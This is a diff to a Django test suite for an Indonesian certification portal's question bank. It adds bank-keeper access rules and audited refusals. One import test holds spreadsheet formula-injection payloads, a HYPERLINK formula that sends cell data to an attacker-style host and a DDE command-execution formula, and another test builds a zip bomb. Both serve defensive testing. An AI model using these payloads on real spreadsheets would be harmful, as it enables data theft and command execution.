@@ -10,7 +10,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from assessments.instruments.models.plans import BankItem, Instrument
+from assessments.instruments.models.plans import BankItem, BankKeeper, Instrument
 from assessments.instruments.services import bank
 from certportal.audit.models import AuditEntry
 from schemes.models import PerformanceCriterion, UnitElement
@@ -39,6 +39,13 @@ def question(unit, lina):
     return bank.bank_item_save(unit, actor=lina, instrument=Instrument.IA05, data=bank.ItemData(
         text="Dokumen apa yang memuat standar pelayanan?", options=["Maklumat pelayanan", "SK Pangkat", "SKP"],
         key=0))
+
+
+@pytest.fixture
+def keepers(lina, asa, scheme):
+    """Lina and Asa keep the scheme's bank (the LSP admin's assignment): they read its keys and write its items."""
+    for user in (lina, asa):
+        BankKeeper.objects.create(scheme=scheme, user=user, assigned_by=lina)
 
 
 def items_url(scheme, unit, code="IA.05"):
@@ -80,8 +87,12 @@ def test_lina_and_an_assessor_in_scope_read_the_bank_and_every_access_is_audited
         viewed = AuditEntry.objects.filter(action="assessments.bankitem.viewed", actor=user, object_id=str(unit.pk))
         assert viewed.count() == 1 and "FR.IA.05" in viewed.get().note
         assert AuditEntry.objects.filter(action="assessments.bankitem.listed", actor=user).count() == 1
-        c.get(reverse("assessments:bank-item", args=[scheme.pk, question.pk]))
-        assert AuditEntry.objects.filter(action="assessments.bankitem.viewed", actor=user).count() == 2
+        # neither keeps the bank nor assesses an event of the scheme: the questions, never the key
+        assert "bank-key" not in text and "(kunci)" not in text and "bank-add" not in text
+        assert "tanpa kunci" in text
+        refused = c.get(reverse("assessments:bank-item", args=[scheme.pk, question.pk]))
+        assert refused.status_code == 403 and "Maklumat pelayanan" not in refused.content.decode()
+        assert AuditEntry.objects.filter(action="assessments.bankitem.refused", actor=user).count() == 1
 
 
 @pytest.mark.parametrize("who", ["alice", "tono", "quinn", "victor", "oscar", "out_of_scope"])
@@ -107,7 +118,8 @@ def test_anyone_else_is_refused_every_bank_page_and_nothing_is_shown(request, lo
     assert not BankItem.objects.filter(text="Soal sisipan").exists()
     question.refresh_from_db()
     assert question.is_active
-    assert not AuditEntry.objects.filter(action__startswith="assessments.bankitem.", actor=user).exists()
+    assert not AuditEntry.objects.filter(action__startswith="assessments.bankitem.", actor=user).exclude(
+        action="assessments.bankitem.refused").exists()
 
 
 def test_anonymous_visitors_are_sent_to_log_in(client, scheme, unit, question):
@@ -116,7 +128,7 @@ def test_anonymous_visitors_are_sent_to_log_in(client, scheme, unit, question):
         assert response.status_code == 302 and "/akun/masuk/" in response["Location"]
 
 
-def test_a_forged_item_id_or_unit_of_another_scheme_is_refused(login, asa, assessor, scheme, unit, lina):
+def test_a_forged_item_id_or_unit_of_another_scheme_is_refused(login, keepers, asa, assessor, scheme, unit, lina):
     other = scheme_with_units(1)
     foreign = bank.bank_item_save(other.scheme_units.get().unit, actor=lina, instrument=Instrument.IA07,
                                   data=bank.ItemData(text="Soal skema lain", expected="Jawaban"))
@@ -132,7 +144,7 @@ def test_a_forged_item_id_or_unit_of_another_scheme_is_refused(login, asa, asses
 # --- items ------------------------------------------------------------------------------------------------------
 
 
-def test_an_assessor_adds_a_multiple_choice_question_with_its_key_and_a_kuk(login, asa, assessor, scheme, unit, kuk):
+def test_an_assessor_adds_a_multiple_choice_question_with_its_key_and_a_kuk(login, keepers, asa, assessor, scheme, unit, kuk):
     c = login(asa)
     response = c.post(items_url(scheme, unit), {
         "text": "Apa fungsi maklumat pelayanan?", "option_a": "Janji layanan", "option_b": "Daftar hadir",
@@ -152,19 +164,19 @@ def test_an_assessor_adds_a_multiple_choice_question_with_its_key_and_a_kuk(logi
     ({"text": "Soal", "option_a": "Satu", "option_c": "Tiga", "key": "A"}, "Isi pilihan secara berurutan"),
     ({"text": "Soal", "option_a": "Sama", "option_b": "sama", "key": "A"}, "Dua pilihan sama."),
 ])
-def test_a_question_that_cannot_be_drawn_is_refused_on_the_form(login, lina, scheme, unit, data, message):
+def test_a_question_that_cannot_be_drawn_is_refused_on_the_form(login, keepers, lina, scheme, unit, data, message):
     page = login(lina).post(items_url(scheme, unit), data).content.decode()
     assert message in page
     assert not BankItem.objects.exists()
 
 
-def test_a_text_longer_than_the_limit_is_a_form_error(login, lina, scheme, unit):
+def test_a_text_longer_than_the_limit_is_a_form_error(login, keepers, lina, scheme, unit):
     page = login(lina).post(items_url(scheme, unit), {"text": "x" * (bank.TEXT_MAX + 1), "option_a": "a",
                                                       "option_b": "b", "key": "A"}).content.decode()
     assert 'maxlength="2000"' in page and not BankItem.objects.exists()
 
 
-def test_the_other_instruments_carry_their_own_fields(login, lina, scheme, unit):
+def test_the_other_instruments_carry_their_own_fields(login, keepers, lina, scheme, unit):
     c = login(lina)
     page = c.get(items_url(scheme, unit, "IA.02")).content.decode()
     assert 'name="tools"' in page and 'name="minutes"' in page and 'name="option_a"' not in page
@@ -179,7 +191,7 @@ def test_the_other_instruments_carry_their_own_fields(login, lina, scheme, unit)
     assert set(BankItem.objects.values_list("instrument", flat=True)) == {"IA.02", "IA.07", "IA.11"}
 
 
-def test_an_item_is_edited_and_taken_out_of_use_never_deleted(login, asa, assessor, scheme, unit, question):
+def test_an_item_is_edited_and_taken_out_of_use_never_deleted(login, keepers, asa, assessor, scheme, unit, question):
     c = login(asa)
     c.post(reverse("assessments:bank-item", args=[scheme.pk, question.pk]), {
         "text": "Dokumen apa yang memuat janji layanan?", "option_a": "Maklumat pelayanan", "option_b": "SKP",
@@ -217,7 +229,7 @@ def test_the_template_downloads_with_the_documented_columns(login, lina):
     assert "IA.05" in help_text and "500" in help_text
 
 
-def test_an_import_is_previewed_with_per_row_problems_then_applied(login, asa, assessor, scheme, unit, kuk):
+def test_an_import_is_previewed_with_per_row_problems_then_applied(login, keepers, asa, assessor, scheme, unit, kuk):
     second = scheme.scheme_units.order_by("position")[1].unit
     upload = xlsx([
         row(unit.code, kuk="1.1"),
@@ -256,7 +268,7 @@ def test_an_import_is_previewed_with_per_row_problems_then_applied(login, asa, a
     assert "Pertanyaan ini sudah ada di bank soal." in again
 
 
-def test_formulas_are_kept_as_text_never_evaluated(login, lina, scheme, unit):
+def test_formulas_are_kept_as_text_never_evaluated(login, keepers, lina, scheme, unit):
     upload = xlsx([row(unit.code, question='=HYPERLINK("http://evil.example/?"&A1,"klik")',
                        options=("=1+1", "+2", "-3", "@SUM(A1)"), key="A"),
                    row(unit.code, "IA.07", "=2*3", (), "", expected="=CMD|' /C calc'!A0")])
@@ -274,7 +286,7 @@ def _post_file(c, scheme, name, data):
                   {"file": SimpleUploadedFile(name, data, content_type=XLSX)}, follow=True).content.decode()
 
 
-def test_a_file_that_is_not_a_workbook_is_refused(login, lina, scheme):
+def test_a_file_that_is_not_a_workbook_is_refused(login, keepers, lina, scheme):
     page = _post_file(login(lina), scheme, "soal.xlsx", b"%PDF-1.4 not a workbook")
     assert "“soal.xlsx” bukan buku kerja Excel (.xlsx)" in page
     page = _post_file(login(lina), scheme, "rusak.xlsx", b"PK\x03\x04" + b"\x00" * 200)
@@ -282,7 +294,7 @@ def test_a_file_that_is_not_a_workbook_is_refused(login, lina, scheme):
     assert not BankItem.objects.exists()
 
 
-def test_a_zip_bomb_is_refused_before_it_is_read(login, lina, scheme):
+def test_a_zip_bomb_is_refused_before_it_is_read(login, keepers, lina, scheme):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("[Content_Types].xml", "<Types/>")
@@ -292,7 +304,7 @@ def test_a_zip_bomb_is_refused_before_it_is_read(login, lina, scheme):
     assert "Buku kerja ini jika dibuka berukuran lebih dari 20 MB" in page
 
 
-def test_a_sheet_with_too_many_questions_is_refused(login, lina, scheme, unit):
+def test_a_sheet_with_too_many_questions_is_refused(login, keepers, lina, scheme, unit):
     upload = xlsx([row(unit.code, question=f"Soal {n}") for n in range(bank.MAX_ROWS + 1)])
     page = login(lina).post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": upload},
                             follow=True).content.decode()
@@ -300,13 +312,13 @@ def test_a_sheet_with_too_many_questions_is_refused(login, lina, scheme, unit):
     assert not BankItem.objects.exists()
 
 
-def test_a_sheet_without_the_template_header_is_refused(login, lina, scheme, unit):
+def test_a_sheet_without_the_template_header_is_refused(login, keepers, lina, scheme, unit):
     page = login(lina).post(reverse("assessments:bank-import", args=[scheme.pk]),
                             {"file": xlsx([row(unit.code)], header=["a", "b", "c"])}, follow=True).content.decode()
     assert "Baris pertama harus memuat nama kolom templat" in page
 
 
-def test_an_english_header_is_read_too(login, lina, scheme, unit):
+def test_an_english_header_is_read_too(login, keepers, lina, scheme, unit):
     header = ["Unit code", "Instrument", "KUK number", "Question or task", "Option A", "Option B", "Option C",
               "Option D", "Option E", "Option F", "Key", "Expected answer or criteria", "Tools and materials",
               "Time (minutes)"]
@@ -322,7 +334,7 @@ def test_the_menu_offers_the_banks_to_lina_and_assessors_only(login, lina, asa, 
     assert reverse("assessments:bank") not in login(alice).get(reverse("assessments:mine")).content.decode()
 
 
-def test_a_huge_cell_is_reported_too_long_and_not_kept_whole(login, lina, scheme, unit):
+def test_a_huge_cell_is_reported_too_long_and_not_kept_whole(login, keepers, lina, scheme, unit):
     c = login(lina)
     page = c.post(reverse("assessments:bank-import", args=[scheme.pk]),
                   {"file": xlsx([row(unit.code, question="x" * 100_000, options=("a" * 30_000, "b"))])},
